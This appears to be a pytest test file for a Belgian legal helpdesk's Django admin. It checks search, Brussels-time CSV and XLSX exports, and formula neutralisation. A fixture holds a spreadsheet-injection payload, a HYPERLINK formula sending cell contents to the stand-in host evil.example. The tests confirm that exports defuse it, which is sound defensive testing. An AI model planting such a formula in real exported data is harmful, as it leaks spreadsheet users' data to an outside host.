"""The listing of questions (issue 11, issue 12 finding 8): a text search over the
descriptions; exports in the site's time zone; CSV that Belgian Excel opens (`;`, UTF-8
with BOM); and no cell that a spreadsheet would run as a formula, in every juridesk export."""

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from juridesk.models import Waarde

pytestmark = pytest.mark.django_db
BRUSSEL = ZoneInfo("Europe/Brussels")
LISTING = "/admin/juridesk/vragen/"
FORMULE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.fixture
def coordinator(aangemeld):
    return aangemeld("Coördinatoren")


@pytest.fixture
def vragen(maak_vraag):
    # 02:36 in Brussels on a winter night is 01:36 UTC
    nacht = maak_vraag(
        datetime.datetime(2024, 1, 10, 2, 36, tzinfo=BRUSSEL),
        regio="antwerpen",
        themas=["verblijfsrecht-gezinshereniging"],
    )
    nacht.beschrijving = FORMULE
    nacht.save()
    gezin = maak_vraag("2024-01-11", regio="limburg")
    gezin.beschrijving = "Gezinshereniging met een erkende vluchteling: welke inkomsten?"
    gezin.save()
    student = maak_vraag("2024-01-12")
    student.beschrijving = "Student niet-EU wil zijn gezin laten overkomen."
    student.save()
    for vraag in (nacht, gezin, student):
        vraag.refresh_from_db()
    return nacht, gezin, student


def namen(antwoord):
    assert antwoord.status_code == 200
    return {v.pk for v in antwoord.context["object_list"]}


def test_the_listing_searches_the_descriptions(coordinator, vragen):
    nacht, gezin, student = vragen
    assert namen(coordinator.get(LISTING, {"q": "vluchteling"})) == {gezin.pk}
    assert namen(coordinator.get(LISTING, {"q": "GEZIN"})) == {gezin.pk, student.pk}
    # every word must occur, in any order
    assert namen(coordinator.get(LISTING, {"q": "gezin student"})) == {student.pk}
    assert namen(coordinator.get(LISTING, {"q": "ruimtevaart"})) == set()
    html = coordinator.get(LISTING).content.decode()
    assert 'name="q"' in html


def csv_rijen(antwoord):
    assert antwoord.status_code == 200
    assert antwoord["Content-Type"] == "text/csv; charset=utf-8"
    inhoud = b"".join(antwoord.streaming_content) if antwoord.streaming else antwoord.content
    assert inhoud.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    tekst = inhoud.decode("utf-8-sig")
    assert "\r\n" in tekst
    return list(csv.reader(io.StringIO(tekst, newline=""), delimiter=";"))


def test_the_csv_export_opens_in_belgian_excel_in_brussels_time(coordinator, vragen):
    rijen = csv_rijen(coordinator.get(LISTING, {"export": "csv"}))
    koppen = rijen[0]
    assert koppen[0] == "Datum en uur" and "Korte omschrijving van de vraag" in koppen
    datum, beschrijving = (
        koppen.index("Datum en uur"),
        koppen.index("Korte omschrijving van de vraag"),
    )
    nacht = next(r for r in rijen[1:] if "HYPERLINK" in r[beschrijving])
    assert nacht[datum] == "10-01-2024 02:36"
    assert nacht[beschrijving] == "'" + FORMULE, "the formula is neutralised"
    for rij in rijen:
        for cel in rij:
            assert not cel.startswith(("=", "+", "@", "\t", "\r")), cel
    assert any("Gezinshereniging met een erkende vluchteling" in r[beschrijving] for r in rijen)


def test_the_xlsx_export_has_brussels_time_and_no_formula(coordinator, vragen):
    antwoord = coordinator.get(LISTING, {"export": "xlsx"})
    blad = load_workbook(io.BytesIO(b"".join(antwoord.streaming_content))).active
    koppen = [c.value for c in blad[1]]
    datum = koppen.index("Datum en uur") + 1
    beschrijving = koppen.index("Korte omschrijving van de vraag") + 1
    rij = next(
        r
        for r in range(2, blad.max_row + 1)
        if "HYPERLINK" in str(blad.cell(r, beschrijving).value)
    )
    assert blad.cell(rij, datum).value == datetime.datetime(2024, 1, 10, 2, 36)
    assert blad.cell(rij, beschrijving).data_type != "f"


@pytest.fixture
def formule_als_label(waarde):
    """A coordinator named a value of a list like a formula (the lists are data)."""
    regio = waarde("regio", "antwerpen")
    regio.label = FORMULE
    regio.save()
    return regio


def test_the_statistics_csv_exports_neutralise_formulas(
    coordinator, vragen, formule_als_label, tmp_path
):
    for pad in ["/admin/juridesk/statistieken/regio.csv", "/admin/juridesk/statistieken/alle.csv"]:
        rijen = csv_rijen(coordinator.get(pad, {"jaar": 2024}))
        assert [r[0] for r in rijen if r and "HYPERLINK" in r[0]] == ["'" + FORMULE]
        assert next(r for r in rijen if r and r[0] == "Totaal")[:2] == ["Totaal", "3"]
        # numbers stay numbers: a negative change is no formula
        assert all(not c.startswith("'-") for r in rijen for c in r)

    uit = tmp_path / "stats.csv"
    call_command("juridesk_stats", "--jaar", "2024", "--format", "csv", "--output", str(uit))
    inhoud = uit.read_bytes()
    assert inhoud.startswith(b"\xef\xbb\xbf")
    rijen = list(csv.reader(io.StringIO(inhoud.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [r[0] for r in rijen if r and "HYPERLINK" in r[0]] == ["'" + FORMULE]


def test_the_statistics_xlsx_holds_no_formula(coordinator, vragen, formule_als_label):
    antwoord = coordinator.get("/admin/juridesk/statistieken/alle.xlsx", {"jaar": 2024})
    blad = load_workbook(io.BytesIO(antwoord.content))["Regio van vraagsteller"]
    cel = next(c for c in blad["A"] if c.value and "HYPERLINK" in str(c.value))
    assert cel.data_type != "f"
    assert Waarde.objects.filter(label=FORMULE).exists()
